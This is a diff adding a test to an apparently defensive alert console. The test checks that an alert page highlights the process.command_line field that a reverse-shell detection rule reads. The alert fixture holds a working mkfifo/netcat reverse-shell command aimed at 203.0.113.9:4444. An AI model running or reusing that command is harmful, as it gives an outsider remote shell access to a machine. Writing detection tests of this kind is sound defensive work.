@@ -157,3 +157,26 @@ def test_a_scoped_principal_gets_404_outside_its_scope(api: Api) -> None:
     assert client.get(f"/console/alerts/{staging}").status_code == 404
     assert client.get("/console/alerts/no-such-alert").status_code == 404
     assert client.get("/console/audit").status_code == 403  # the audit log needs an unscoped principal
+
+
+def test_the_alert_page_highlights_the_fields_its_rule_reads(api: Api) -> None:
+    import shutil
+
+    from tests.conftest import REPO_ROOT
+
+    rule = REPO_ROOT / "rules" / "linux" / "process_creation" / "reverse_shell_mkfifo.yml"
+    (api.root / "rules").mkdir(exist_ok=True)
+    shutil.copy(rule, api.root / "rules" / rule.name)
+    alert = {
+        "id": "hl-1",
+        "rule": {"id": "82bb53c5-b434-4f3e-bbe9-23027ba2412d", "title": "Reverse shell", "level": "critical"},
+        "host": {"name": "web1"},
+        "events": [{"process": {"command_line": "mkfifo /tmp/f; nc 203.0.113.9 4444 </tmp/f | /bin/sh", "pid": 42}}],
+    }
+    created = api.client.post("/ingest/alerts", json=alert, headers=auth("admin"))
+    assert created.status_code == 201, created.text
+    client = _client(api)
+    sign_in(client, "viewer")
+    html = client.get(f"/console/alerts/{created.json()['id']}").text
+    assert re.search(r'<tr class="hit"><th class="mono">process\.command_line</th>', html), html[-3000:]
+    assert '<tr><th class="mono">process.pid</th>' in html  # a field the rule does not read is not highlighted
